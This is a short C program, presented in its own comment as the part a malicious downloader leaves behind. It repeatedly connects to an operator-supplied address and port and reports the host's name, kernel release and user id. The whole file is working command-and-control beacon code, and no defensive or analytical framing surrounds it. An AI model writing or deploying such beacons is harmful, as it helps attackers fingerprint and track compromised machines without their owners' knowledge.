// What a downloader leaves: calls home and says who it is.  beacon ADDRESS PORT ROUNDS
#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/utsname.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc < 4) return 2;
    for (int round = atoi(argv[3]); round > 0; round--) {
        struct sockaddr_in home = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[2]))};
        inet_pton(AF_INET, argv[1], &home.sin_addr);
        int fd = socket(AF_INET, SOCK_STREAM, 0);
        struct utsname name;
        uname(&name);
        char text[600];
        int length = snprintf(text, sizeof text, "beacon %s %s %d\n", name.nodename, name.release, getuid());
        if (!connect(fd, (struct sockaddr *)&home, sizeof home) && write(fd, text, length) > 0) read(fd, text, sizeof text);
        close(fd);
        usleep(700000);
    }
}
